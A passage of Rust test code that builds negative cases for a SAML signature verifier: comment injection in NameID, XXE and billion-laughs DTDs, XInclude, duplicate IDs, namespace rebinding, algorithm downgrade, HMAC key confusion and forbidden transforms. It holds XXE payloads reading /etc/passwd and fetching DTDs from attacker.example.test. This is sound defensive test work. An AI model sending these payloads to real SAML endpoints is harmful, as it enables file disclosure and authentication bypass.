    // A comment that adds no text leaves the canonical form (and digest) unchanged: accepted,
    // and the NameID is still the full text, not the part before the comment.
    c.accept(
        W,
        "comment-only-in-nameid-A",
        rep(&a, name, ">alice@<!--x-->example.test</saml:NameID>"),
        c.base.clone(),
        xmlsec::NAME_ID,
    );
    c.accept(
        W,
        "comment-only-in-nameid-R",
        rep(&r, name, ">alice<!---->@example.test<!----></saml:NameID>"),
        c.base.clone(),
        xmlsec::NAME_ID,
    );
    c.accept(
        W,
        "cdata-in-nameid-A",
        rep(&a, name, "><![CDATA[alice@]]>example.test</saml:NameID>"),
        c.base.clone(),
        xmlsec::NAME_ID,
    );
    // Signed by the IdP with the comment / PI inside: the full text is the value.
    let signed = idp_signed(
        &rep(
            &a,
            name,
            ">alice@example.test<!--x-->.evil.test</saml:NameID>",
        ),
        aid,
    );
    c.accept(
        W,
        "idp-signed-comment-in-nameid-read-in-full",
        signed.clone(),
        c.base.clone(),
        "alice@example.test.evil.test",
    );
    // ... and the attacker cannot cut the part after the comment away.
    c.reject(
        W,
        "idp-signed-comment-tail-removed",
        rep(
            &signed,
            "<!--x-->.evil.test</saml:NameID>",
            "<!--x--></saml:NameID>",
        ),
        R::DigestMismatch,
    );
    let signed_pi = idp_signed(
        &rep(
            &a,
            name,
            ">alice@example.test<?pi x?>.evil.test</saml:NameID>",
        ),
        aid,
    );
    c.accept(
        W,
        "idp-signed-pi-in-nameid-read-in-full",
        signed_pi,
        c.base.clone(),
        "alice@example.test.evil.test",
    );
    let signed_attr = idp_signed(
        &rep(
            &a,
            ">admins</saml:AttributeValue>",
            ">admins<!--x-->.evil</saml:AttributeValue>",
        ),
        aid,
    );
    c.accept_attr(
        W,
        "idp-signed-comment-in-attribute-read-in-full",
        signed_attr,
        "groups",
        &["users", "admins.evil"],
    );
}

/// DOCTYPE, entities, XInclude: SAML never needs a DTD, and nothing is ever fetched.
fn dtd_and_entities(c: &mut Corpus) {
    const W: &str = "dtd-xxe";
    let a = fixture_text("rsa-sha256-assertion.xml");
    let aid = "_assert-rsa-sha256-assertion";
    let name = ">alice@example.test</saml:NameID>";
    let with_dtd = |dtd: &str, nameid: &str| {
        rep(
            &rep(&a, DECL, &format!("{DECL}{dtd}\n")),
            name,
            &format!(">{nameid}</saml:NameID>"),
        )
    };
    let laughs: String = {
        let mut s = String::from("<!DOCTYPE samlp:Response [<!ENTITY lol \"lol\">");
        for i in 1..10 {
            let prev = if i == 1 {
                "lol".to_string()
            } else {
                format!("lol{}", i - 1)
            };
            s.push_str(&format!(
                "<!ENTITY lol{i} \"{}\">",
                format!("&{prev};").repeat(10)
            ));
        }
        s.push_str("]>");
        s
    };
    let xxe = "<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM \"file:///etc/hostname\">]>";
    let param = "<!DOCTYPE samlp:Response [<!ENTITY % p SYSTEM \"http://attacker.example.test/evil.dtd\"> %p;]>";
    let internal = "<!DOCTYPE samlp:Response [<!ENTITY who \"admin@example.test\">]>";
    let cases: Vec<(&str, String)> = vec![
        ("xxe-external-entity", with_dtd(xxe, "&xxe;")),
        (
            "xxe-parameter-entity",
            with_dtd(param, "alice@example.test"),
        ),
        ("billion-laughs", with_dtd(&laughs, "&lol9;")),
        ("internal-entity-reference", with_dtd(internal, "&who;")),
        (
            "external-dtd-system",
            with_dtd(
                "<!DOCTYPE samlp:Response SYSTEM \"http://attacker.example.test/saml.dtd\">",
                "alice@example.test",
            ),
        ),
        (
            "external-dtd-public",
            with_dtd(
                "<!DOCTYPE samlp:Response PUBLIC \"-//X//Y\" \"file:///etc/passwd\">",
                "alice@example.test",
            ),
        ),
        (
            "empty-doctype",
            with_dtd("<!DOCTYPE samlp:Response>", "alice@example.test"),
        ),
        (
            "entity-in-attribute",
            rep(
                &with_dtd(internal, "alice@example.test"),
                "Recipient=\"https://sp.example.test/EnticeServices/rest/authenticate/saml\"",
                "Recipient=\"&who;\"",
            ),
        ),
        (
            "entity-declaration-without-doctype",
            rep(&a, DECL, &format!("{DECL}<!ENTITY x \"y\">")),
        ),
    ];
    for (label, xml) in cases {
        c.reject(W, label, xml.clone(), R::DtdForbidden);
        // The same with the byte-level DOCTYPE check out of play: UTF-16 (LE and BE). The
        // parser must still refuse the DTD.
        if label == "entity-declaration-without-doctype" {
            continue; // not well-formed XML at all once the byte check is out of play
        }
        let utf16 = rep(&xml, DECL, "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n");
        c.reject(
            W,
            format!("{label}-utf16le"),
            utf16le(&utf16),
            R::DtdForbidden,
        );
        if label.starts_with("xxe") || label == "billion-laughs" {
            c.reject(
                W,
                format!("{label}-utf16be"),
                utf16be(&utf16),
                R::DtdForbidden,
            );
        }
    }
    // A local file as external subset / external parameter entity, in UTF-16. The file is not
    // a DTD: if the parser ever reads it, libxml2 reports a content error (malformed_xml)
    // instead of the DTD refusal, so the load becomes visible to the test.
    let dir = tempfile::tempdir().unwrap();
    let sentinel = dir.path().join("must-never-be-read.dtd");
    std::fs::write(
        &sentinel,
        "THIS FILE MUST NEVER BE READ BY THE SAML PARSER < & >",
    )
    .unwrap();
    let url = format!("file://{}", sentinel.display());
    let utf16_decl = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n";
    for (label, dtd) in [
        (
            "local-file-external-subset",
            format!("<!DOCTYPE samlp:Response SYSTEM \"{url}\">"),
        ),
        (
            "local-file-parameter-entity",
            format!("<!DOCTYPE samlp:Response [<!ENTITY % p SYSTEM \"{url}\"> %p;]>"),
        ),
        (
            "local-file-general-entity",
            format!("<!DOCTYPE samlp:Response [<!ENTITY x SYSTEM \"{url}\">]>"),
        ),
    ] {
        let xml = rep(
            &with_dtd(
                &dtd,
                if label.ends_with("general-entity") {
                    "&x;"
                } else {
                    "alice@example.test"
                },
            ),
            DECL,
            utf16_decl,
        );
        c.reject(
            W,
            format!("{label}-utf16le"),
            utf16le(&xml),
            R::DtdForbidden,
        );
        c.reject(
            W,
            format!("{label}-utf8"),
            rep(&xml, utf16_decl, DECL),
            R::DtdForbidden,
        );
    }
    c.files.push(dir);
    // UTF-8 with a byte-order mark in front.
    let bom = [&[0xEF, 0xBB, 0xBF][..], with_dtd(xxe, "&xxe;").as_bytes()].concat();
    c.reject(W, "xxe-utf8-bom", bom, R::DtdForbidden);
    // An entity reference with no DTD at all is not well-formed XML (WFC: Entity Declared).
    c.reject(
        W,
        "undeclared-entity-reference",
        rep(&a, name, ">&xxe;</saml:NameID>"),
        R::MalformedXml,
    );
    // XInclude is never processed: inserted after signing it is plain signed content that
    // changed (digest), and signed by the IdP it stays an inert element whose text is "".
    let include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/hostname\" parse=\"text\"/>";
    c.reject(
        W,
        "xinclude-in-nameid",
        rep(&a, name, &format!(">{include}</saml:NameID>")),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "xinclude-in-attribute",
        rep(
            &a,
            ">alice</saml:AttributeValue>",
            &format!(">{include}</saml:AttributeValue>"),
        ),
        R::DigestMismatch,
    );
    let signed = idp_signed(
        &rep(
            &a,
            name,
            &format!(">alice@example.test{include}</saml:NameID>"),
        ),
        aid,
    );
    c.accept(
        W,
        "idp-signed-xinclude-not-processed",
        signed,
        c.base.clone(),
        xmlsec::NAME_ID,
    );
    let signed = idp_signed(
        &rep(
            &a,
            ">alice</saml:AttributeValue>",
            &format!(">{include}</saml:AttributeValue>"),
        ),
        aid,
    );
    c.accept_attr(
        W,
        "idp-signed-xinclude-in-attribute-not-processed",
        signed,
        "uid",
        &[""],
    );
}

/// IDs must exist and be unique in the whole document.
fn duplicate_and_missing_ids(c: &mut Corpus) {
    const W: &str = "duplicate-id";
    let a = Fx::load("rsa-sha256-assertion.xml");
    let r = Fx::load("rsa-sha256-response.xml");
    let (issuer, status) = (a.resp_issuer.as_str(), a.status.as_str());
    let aid = a.assert_id.clone();
    c.reject(
        W,
        "response-id-equals-assertion-id-A",
        a.response(&a.resp_open_with_id(&aid), &[issuer, status, &a.assertion]),
        R::DuplicateId,
    );
    c.reject(
        W,
        "response-id-equals-assertion-id-R",
        rep(
            &r.xml(),
            &format!("ID=\"{}\"", r.assert_id),
            &format!("ID=\"{}\"", r.resp_id),
        ),
        R::DuplicateId,
    );
    c.reject(
        W,
        "extensions-element-with-assertion-id",
        a.response(
            &a.resp_open,
            &[
                issuer,
                &format!("<samlp:Extensions><x ID=\"{aid}\"/></samlp:Extensions>"),
                status,
                &a.assertion,
            ],
        ),
        R::DuplicateId,
    );
    c.reject(
        W,
        "extensions-element-with-response-id-R",
        rep(
            &r.xml(),
            "<samlp:Status>",
            &format!(
                "<samlp:Extensions><x ID=\"{}\"/></samlp:Extensions><samlp:Status>",
                r.resp_id
            ),
        ),
        R::DuplicateId,
    );
    c.reject(
        W,
        "ds-object-id-equals-assertion-id",
        a.response(
            &a.resp_open,
            &[
                issuer,
                status,
                &a.assertion,
                &format!("<ds:Object xmlns:ds=\"{DSIG}\" Id=\"{aid}\"/>"),
            ],
        ),
        R::DuplicateId,
    );
    c.reject(
        W,
        "signature-object-id-equals-assertion-id",
        rep(
            &a.xml(),
            "</ds:KeyInfo>",
            &format!("</ds:KeyInfo><ds:Object Id=\"{aid}\"/>"),
        ),
        R::DuplicateId,
    );
    c.reject(
        W,
        "id-inside-assertion-duplicated",
        rep(
            &a.xml(),
            "<saml:Subject>",
            &format!("<saml:Subject><x ID=\"{aid}\"/>"),
        ),
        R::DuplicateId,
    );
    c.reject(
        W,
        "status-id-equals-response-id",
        rep(
            &a.xml(),
            "<samlp:Status>",
            &format!("<samlp:Status ID=\"{}\">", a.resp_id),
        ),
        R::DuplicateId,
    );

    const M: &str = "missing-id";
    c.reject(
        M,
        "response-id-removed-A",
        rep(&a.xml(), &format!(" ID=\"{}\"", a.resp_id), ""),
        R::MissingId,
    );
    c.reject(
        M,
        "response-id-removed-R",
        rep(&r.xml(), &format!(" ID=\"{}\"", r.resp_id), ""),
        R::MissingId,
    );
    c.reject(
        M,
        "response-id-empty-A",
        rep(&a.xml(), &format!(" ID=\"{}\"", a.resp_id), " ID=\"\""),
        R::MissingId,
    );
    c.reject(
        M,
        "response-id-blank-A",
        rep(&a.xml(), &format!(" ID=\"{}\"", a.resp_id), " ID=\"  \""),
        R::MissingId,
    );
    // The assertion's ID is checked before its signature.
    c.reject(
        M,
        "assertion-id-removed-A",
        rep(&a.xml(), &format!(" ID=\"{aid}\""), ""),
        R::MissingId,
    );
    c.reject(
        M,
        "assertion-id-empty-A",
        rep(&a.xml(), &format!(" ID=\"{aid}\""), " ID=\"\""),
        R::MissingId,
    );
    // lowercase id is not the SAML ID attribute.
    c.reject(
        M,
        "assertion-id-lowercase-A",
        rep(
            &a.xml(),
            &format!(" ID=\"{aid}\""),
            &format!(" id=\"{aid}\""),
        ),
        R::MissingId,
    );
    // Under the Response signature the Response checks come first; the assertion's missing
    // ID then breaks the Response digest.
    c.reject(
        M,
        "assertion-id-removed-R",
        rep(&r.xml(), &format!(" ID=\"{}\"", r.assert_id), ""),
        R::DigestMismatch,
    );
    // xs:ID is an NCName: not starting with a digit, `-` or `.`, no `:` or blanks; checked on
    // the Response even when only the Assertion is signed (a public capture had `ID="1..."`).
    for (label, id) in [
        ("digit", "1abc"),
        ("hyphen", "-abc"),
        ("colon", "a:b"),
        ("space", "a b"),
        ("bidi", "a\u{202e}b"),
    ] {
        c.reject(
            "id-format",
            format!("response-id-{label}-A"),
            rep(
                &a.xml(),
                &format!(" ID=\"{}\"", a.resp_id),
                &format!(" ID=\"{id}\""),
            ),
            R::InvalidId,
        );
    }
    c.reject(
        "id-format",
        "assertion-id-digit-A",
        rep(&a.xml(), &format!(" ID=\"{aid}\""), " ID=\"9{aid}\""),
        R::InvalidId,
    );
    let response_instant = "IssueInstant=\"2026-01-15T10:00:00Z\" Destination";
    for (label, instant) in [
        ("empty", "IssueInstant=\"\""),
        ("blank", "IssueInstant=\" \""),
        ("garbage", "IssueInstant=\"yesterday\""),
        ("removed", ""),
    ] {
        c.reject(
            "id-format",
            format!("response-issue-instant-{label}-A"),
            rep(
                &a.xml(),
                response_instant,
                &format!("{instant} Destination"),
            ),
            R::InvalidTimestamp,
        );
    }
    // The public capture: both at once; the ID is checked first.
    c.reject(
        "id-format",
        "response-id-digit-and-issue-instant-empty-A",
        rep(
            &rep(&a.xml(), response_instant, "IssueInstant=\"\" Destination"),
            &format!(" ID=\"{}\"", a.resp_id),
            " ID=\"1abc\"",
        ),
        R::InvalidId,
    );
    c.reject(
        M,
        "response-version-1.1-A",
        rep(&a.xml(), "Version=\"2.0\"", "Version=\"1.1\""),
        R::UnsupportedVersion,
    );
    c.reject(
        M,
        "response-version-removed-A",
        rep(&a.xml(), " Version=\"2.0\"", ""),
        R::UnsupportedVersion,
    );
}

/// Canonicalization that cannot be done (void canonicalization) and namespace tricks.
fn canonicalization_and_namespaces(c: &mut Corpus) {
    const W: &str = "c14n-namespace";
    let a = fixture_text("rsa-sha256-assertion.xml");
    let r = fixture_text("rsa-sha256-response.xml");
    let azure = fixture_text("azure-6k.xml");
    // A relative namespace URI makes libxml2's C14N fail: the signature must then fail too,
    // never be checked over an empty string.
    c.reject(
        W,
        "relative-ns-on-signed-assertion",
        rep(
            &a,
            "<saml:Assertion ",
            "<saml:Assertion xmlns:void=\"relative\" ",
        ),
        R::CanonicalizationFailed,
    );
    c.reject(
        W,
        "relative-ns-on-nameid",
        rep(&a, "<saml:NameID ", "<saml:NameID xmlns:void=\"relative\" "),
        R::CanonicalizationFailed,
    );
    c.reject(
        W,
        "relative-default-ns-on-new-descendant",
        rep(
            &a,
            "</saml:AttributeStatement>",
            "<x xmlns=\"relative\"/></saml:AttributeStatement>",
        ),
        R::CanonicalizationFailed,
    );
    c.reject(
        W,
        "relative-ns-on-signed-response",
        rep(
            &r,
            "<samlp:Response ",
            "<samlp:Response xmlns:void=\"relative/path\" ",
        ),
        R::CanonicalizationFailed,
    );
    c.reject(
        W,
        "relative-ns-inside-signed-response",
        rep(
            &r,
            "<saml:Assertion ",
            "<saml:Assertion xmlns:void=\"../x\" ",
        ),
        R::CanonicalizationFailed,
    );
    // saml: rebound to another URI inside the signed assertion: the Subject and everything
    // under it changes namespace, so the canonical form changes.
    c.reject(
        W,
        "saml-prefix-rebound-on-subject",
        rep(
            &a,
            "<saml:Subject>",
            "<saml:Subject xmlns:saml=\"urn:evil\">",
        ),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "saml-prefix-rebound-on-nameid",
        rep(&a, "<saml:NameID ", "<saml:NameID xmlns:saml=\"urn:evil\" "),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "saml-prefix-rebound-in-signed-response",
        rep(
            &r,
            "<saml:Subject>",
            "<saml:Subject xmlns:saml=\"urn:evil\">",
        ),
        R::DigestMismatch,
    );
    // The assertion itself moved out of the SAML namespace: no SAML assertion is left.
    c.reject(
        W,
        "saml-prefix-rebound-on-assertion",
        rep(
            &a,
            "<saml:Assertion ",
            "<saml:Assertion xmlns:saml=\"urn:oasis:names:tc:SAML:1.0:assertion\" ",
        ),
        R::NoAssertion,
    );
    // Same namespace, other prefix: exclusive C14N keeps prefixes, so the digest changes.
    c.reject(W, "nameid-other-prefix-same-ns", rep(&a, "<saml:NameID SPNameQualifier=\"https://sp.example.test/saml/metadata\" Format=\"urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress\">alice@example.test</saml:NameID>", "<s2:NameID xmlns:s2=\"urn:oasis:names:tc:SAML:2.0:assertion\" SPNameQualifier=\"https://sp.example.test/saml/metadata\" Format=\"urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress\">alice@example.test</s2:NameID>"), R::DigestMismatch);
    // Default-namespace swap on an Azure-style (unprefixed) assertion.
    let azure_open = "<Assertion xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\" ";
    c.reject(
        W,
        "default-ns-swapped-on-assertion",
        rep(&azure, azure_open, "<Assertion xmlns=\"urn:evil\" "),
        R::NoAssertion,
    );
    c.reject(
        W,
        "default-ns-swapped-on-subject",
        rep(&azure, "<Subject>", "<Subject xmlns=\"urn:evil\">"),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "default-ns-to-prefixed-same-ns",
        rep(
            &azure,
            "<NameID Format",
            "<p:NameID xmlns:p=\"urn:oasis:names:tc:SAML:2.0:assertion\" Format",
        )
        .replacen(
            "alice@example.test</NameID>",
            "alice@example.test</p:NameID>",
            1,
        ),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "default-ns-undeclared-on-nameid",
        rep(&azure, "<NameID Format", "<NameID xmlns=\"\" Format"),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "dsig-default-ns-swapped",
        rep(
            &azure,
            "<Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\">",
            "<Signature xmlns=\"http://www.w3.org/2000/09/xmldsig-more#\">",
        ),
        R::SignatureMissing,
    );
    // xml: attributes are canonical content too.
    c.reject(
        W,
        "xml-space-added",
        rep(&a, "<saml:NameID ", "<saml:NameID xml:space=\"preserve\" "),
        R::DigestMismatch,
    );
}

/// Weak or foreign algorithms in SignedInfo (SHA-1 is off unless explicitly allowed).
fn algorithm_downgrade(c: &mut Corpus) {
    const W: &str = "algorithm";
    let a = fixture_text("rsa-sha256-assertion.xml");
    let aid = "_assert-rsa-sha256-assertion";
    let method = |uri: &str| {
        rep(
            &a,
            RSA_SHA256_M,
            &format!("<ds:SignatureMethod Algorithm=\"{uri}\"/>"),
        )
    };
    c.reject(
        W,
        "signature-method-rsa-sha1",
        method("http://www.w3.org/2000/09/xmldsig#rsa-sha1"),
        R::InsecureAlgorithm,
    );
    c.reject(
        W,
        "signature-method-ecdsa-sha1",
        method("http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1"),
        R::InsecureAlgorithm,
    );
    // SHA-1 allowed, but the SignedInfo changed: the signature value no longer matches.
    let lax = c.env(|e| e.sp.algorithms.insecure_allow_sha1 = true);
    c.reject_in(
        W,
        "signature-method-rsa-sha1-sha1-allowed",
        method("http://www.w3.org/2000/09/xmldsig#rsa-sha1"),
        lax.clone(),
        R::SignatureInvalid,
    );
    for (label, uri) in [
        ("hmac-sha1", "http://www.w3.org/2000/09/xmldsig#hmac-sha1"),
        (
            "hmac-sha256",
            "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
        ),
        (
            "hmac-sha512",
            "http://www.w3.org/2001/04/xmldsig-more#hmac-sha512",
        ),
        ("dsa-sha1", "http://www.w3.org/2000/09/xmldsig#dsa-sha1"),
        ("dsa-sha256", "http://www.w3.org/2009/xmldsig11#dsa-sha256"),
        ("rsa-md5", "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"),
        (
            "rsa-sha224",
            "http://www.w3.org/2001/04/xmldsig-more#rsa-sha224",
        ),
        (
            "rsa-pss",
            "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1",
        ),
        (
            "uppercase-uri",
            "HTTP://WWW.W3.ORG/2001/04/XMLDSIG-MORE#RSA-SHA256",
        ),
        (
            "padded-uri",
            " http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
        ),
        ("empty-uri", ""),
    ] {
        c.reject(
            W,
            format!("signature-method-{label}"),
            method(uri),
            R::AlgorithmNotAllowed,
        );
    }
    c.reject(
        W,
        "signature-method-algorithm-missing",
        rep(&a, RSA_SHA256_M, "<ds:SignatureMethod/>"),
        R::AlgorithmNotAllowed,
    );
    // HMAC keyed with the IdP's public certificate (the key-confusion attack), real MACs.
    let der = certificate("idp-rsa").to_der().unwrap();
    let pem = read(xmlsec_dir().join("keys/idp-rsa.crt"));
    for (label, uri, secret, md) in [
        (
            "hmac-sha256-keyed-with-cert-der",
            "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
            &der,
            MessageDigest::sha256(),
        ),
        (
            "hmac-sha256-keyed-with-cert-pem",
            "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
            &pem,
            MessageDigest::sha256(),
        ),
        (
            "hmac-sha1-keyed-with-cert-der",
            "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
            &der,
            MessageDigest::sha1(),
        ),
    ] {
        let xml = resign_value(&method(uri), aid, &KeyKind::Hmac(secret, md));
        c.reject(W, label.to_string(), xml.clone(), R::AlgorithmNotAllowed);
        let evil = resign(
            &rep(&xml, ">alice@example.test<", &format!(">{EVIL_NAME}<")),
            aid,
            &KeyKind::Hmac(secret, md),
        );
        c.reject(
            W,
            format!("{label}-evil-content"),
            evil.clone(),
            R::AlgorithmNotAllowed,
        );
        let lax = c.env(|e| {
            e.sp.algorithms.insecure_allow_sha1 = true;
            e.sp.algorithms.insecure_allow_weak_rsa_keys = true;
        });
        c.reject_in(
            W,
            format!("{label}-evil-content-all-insecure-allowed"),
            evil,
            lax,
            R::AlgorithmNotAllowed,
        );
    }
    let digest = |uri: &str| {
        rep(
            &a,
            SHA256_D,
            &format!("<ds:DigestMethod Algorithm=\"{uri}\"/>"),
        )
    };
    // The digest recomputed with SHA-1, so only the algorithm decides.
    let sha1 = redigest(
        &digest("http://www.w3.org/2000/09/xmldsig#sha1"),
        aid,
        MessageDigest::sha1(),
    );
    c.reject(W, "digest-method-sha1", sha1.clone(), R::InsecureAlgorithm);
    c.reject_in(
        W,
        "digest-method-sha1-sha1-allowed",
        sha1,
        lax,
        R::SignatureInvalid,
    );
    let md5 = redigest(
        &digest("http://www.w3.org/2001/04/xmldsig-more#md5"),
        aid,
        MessageDigest::md5(),
    );
    c.reject(W, "digest-method-md5", md5, R::AlgorithmNotAllowed);
    c.reject(
        W,
        "digest-method-sha224",
        digest("http://www.w3.org/2001/04/xmldsig-more#sha224"),
        R::AlgorithmNotAllowed,
    );
    c.reject(
        W,
        "digest-method-sha3-256",
        digest("http://www.w3.org/2007/05/xmldsig-more#sha3-256"),
        R::AlgorithmNotAllowed,
    );
    c.reject(W, "digest-method-empty", digest(""), R::AlgorithmNotAllowed);
    c.reject(
        W,
        "rsa-sha1-fixture",
        fixture_text("rsa-sha1-assertion.xml"),
        R::InsecureAlgorithm,
    );
    let ec = fixture_text("ecdsa-p256-sha256-assertion.xml");
    c.reject(
        W,
        "ecdsa-downgraded-to-sha1",
        rep(&ec, "xmldsig-more#ecdsa-sha256", "xmldsig-more#ecdsa-sha1"),
        R::InsecureAlgorithm,
    );
}

/// Transforms, References, SignedInfo structure.
fn transforms_and_references(c: &mut Corpus) {
    const T: &str = "transform";
    const REF: &str = "reference";
    let a = fixture_text("rsa-sha256-assertion.xml");
    let r = fixture_text("rsa-sha256-response.xml");
    let aid = "_assert-rsa-sha256-assertion";
    let reference = format!("<ds:Reference URI=\"#{aid}\">");
    let transforms = format!("<ds:Transforms>{ENVELOPED_T}{EXC_T}</ds:Transforms>");
    let with_transforms = |inner: &str| {
        rep(
            &a,
            &transforms,
            &format!("<ds:Transforms>{inner}</ds:Transforms>"),
        )
    };
    let xslt = r#"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of select="."/></xsl:template></xsl:stylesheet></ds:Transform>"#;
    let xpath = r#"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::ds:Signature)</ds:XPath></ds:Transform>"#;
    let filter2 = r#"<ds:Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2"><dsig-xpath:XPath xmlns:dsig-xpath="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract">//saml:NameID</dsig-xpath:XPath></ds:Transform>"#;
    let base64 = r#"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/>"#;
    let incl = r#"<ds:Transform Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/>"#;
    let incl_comments = r#"<ds:Transform Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments"/>"#;
    let c14n11 = r#"<ds:Transform Algorithm="http://www.w3.org/2006/12/xml-c14n11"/>"#;
    let exc_comments =
        r#"<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#WithComments"/>"#;
    for (label, inner, expected) in [
        (
            "xslt-appended",
            format!("{ENVELOPED_T}{EXC_T}{xslt}"),
            R::TransformNotAllowed,
        ),
        (
            "xslt-instead-of-c14n",
            format!("{ENVELOPED_T}{xslt}"),
            R::TransformNotAllowed,
        ),
        (
            "xslt-first",
            format!("{xslt}{ENVELOPED_T}{EXC_T}"),
            R::TransformNotAllowed,
        ),
        (
            "xpath-first",
            format!("{xpath}{ENVELOPED_T}{EXC_T}"),
            R::TransformNotAllowed,
        ),
        (
            "xpath-instead-of-enveloped",
            format!("{xpath}{EXC_T}"),
            R::TransformNotAllowed,
        ),
        (
            "xpath-filter2",
            format!("{ENVELOPED_T}{filter2}{EXC_T}"),
            R::TransformNotAllowed,
        ),
        (
            "base64",
            format!("{ENVELOPED_T}{EXC_T}{base64}"),
            R::TransformNotAllowed,
        ),
        // Inclusive C14N is allowed (issue 12), but the document was signed with exclusive
        // C14N: the inclusive form of the assertion (with the Response's namespaces) digests
        // differently.
        (
            "inclusive-c14n",
            format!("{ENVELOPED_T}{incl}"),
            R::DigestMismatch,
        ),
        (
            "inclusive-c14n-with-comments",
            format!("{ENVELOPED_T}{incl_comments}"),
            R::DigestMismatch,
        ),
        (
            "c14n11",
            format!("{ENVELOPED_T}{c14n11}"),
            R::DigestMismatch,
        ),
        (
            "second-exc-c14n",
            format!("{ENVELOPED_T}{EXC_T}{EXC_T}"),
            R::TransformNotAllowed,
        ),
        (
            "exc-c14n-then-inclusive",
            format!("{ENVELOPED_T}{EXC_T}{incl}"),
            R::TransformNotAllowed,
        ),
        (
            "enveloped-missing",
            EXC_T.to_string(),
            R::TransformNotAllowed,
        ),
        (
            "enveloped-twice",
            format!("{ENVELOPED_T}{ENVELOPED_T}{EXC_T}"),
            R::TransformNotAllowed,
        ),
        ("transforms-empty", String::new(), R::TransformNotAllowed),
        (
            "transform-without-algorithm",
            format!("{ENVELOPED_T}<ds:Transform/>"),
            R::TransformNotAllowed,
        ),
        (
            "enveloped-with-content",
            format!(
                "<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"><ds:XPath>x</ds:XPath></ds:Transform>{EXC_T}"
            ),
            R::SignatureMalformed,
        ),
        (
            "foreign-element-in-transforms",
            format!("{ENVELOPED_T}{EXC_T}<evil xmlns=\"urn:evil\"/>"),
            R::SignatureMalformed,
        ),
        (
            "two-inclusive-namespaces",
            format!(
                "{ENVELOPED_T}<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"><ec:InclusiveNamespaces xmlns:ec=\"http://www.w3.org/2001/10/xml-exc-c14n#\" PrefixList=\"xs\"/><ec:InclusiveNamespaces xmlns:ec=\"http://www.w3.org/2001/10/xml-exc-c14n#\" PrefixList=\"xsi\"/></ds:Transform>"
            ),
            R::SignatureMalformed,
        ),
        // Allowed transforms, but the SignedInfo was changed after signing.
        (
            "exc-c14n-with-comments",
            format!("{ENVELOPED_T}{exc_comments}"),
            R::SignatureInvalid,
        ),
        (
            "order-swapped",
            format!("{EXC_T}{ENVELOPED_T}"),
            R::SignatureInvalid,
        ),
        // A PrefixList that makes the canonical form differ: the digest breaks first.
        (
            "prefix-list-added",
            format!(
                "{ENVELOPED_T}<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"><ec:InclusiveNamespaces xmlns:ec=\"http://www.w3.org/2001/10/xml-exc-c14n#\" PrefixList=\"samlp\"/></ds:Transform>"
            ),
            R::DigestMismatch,
        ),
    ] {
        c.reject(
            T,
            format!("transform-{label}"),
            with_transforms(&inner),
            expected,
        );
    }
    c.reject(
        T,
        "transforms-element-removed",
        rep(&a, &transforms, ""),
        R::TransformNotAllowed,
    );
    c.reject(
        T,
        "comment-added-with-comments-transform",
        rep(
            &with_transforms(&format!("{ENVELOPED_T}{exc_comments}")),
            ">alice@example.test<",
            ">alice@example.test<!--x--><",
        ),
        R::DigestMismatch,
    );

    let reference_block = {
        let start = a.find(&reference).unwrap();
        let end = a.find("</ds:Reference>").unwrap() + "</ds:Reference>".len();
        a[start..end].to_string()
    };
    let signed_info = {
        let start = a.find("<ds:SignedInfo>").unwrap();
        let end = a.find("</ds:SignedInfo>").unwrap() + "</ds:SignedInfo>".len();
        a[start..end].to_string()
    };
    c.reject(
        REF,
        "two-references-same",
        rep(
            &a,
            &reference_block,
            &format!("{reference_block}{reference_block}"),
        ),
        R::ReferenceInvalid,
    );
    c.reject(
        REF,
        "second-reference-to-response",
        rep(
            &a,
            &reference_block,
            &format!(
                "{reference_block}{}",
                reference_block.replace(aid, "_resp-rsa-sha256-assertion")
            ),
        ),
        R::ReferenceInvalid,
    );
    c.reject(
        REF,
        "two-signedinfos",
        rep(&a, &signed_info, &format!("{signed_info}{signed_info}")),
        R::SignatureMalformed,
    );
    for (label, uri) in [
        ("empty", ""),
        ("response-id", "#_resp-rsa-sha256-assertion"),
        ("xpointer-root", "#xpointer(/)"),
        (
            "xpointer-id",
            "#xpointer(id('_assert-rsa-sha256-assertion'))",
        ),
        (
            "external-url",
            "https://attacker.example.test/assertion.xml",
        ),
        ("id-without-hash", "_assert-rsa-sha256-assertion"),
        ("id-trailing-space", "#_assert-rsa-sha256-assertion "),
        ("id-other-case", "#_ASSERT-rsa-sha256-assertion"),
        ("file-url", "file:///etc/passwd"),
    ] {
        c.reject(
            REF,
            format!("reference-uri-{label}"),
            rep(&a, &reference, &format!("<ds:Reference URI=\"{uri}\">")),
            R::ReferenceInvalid,
        );
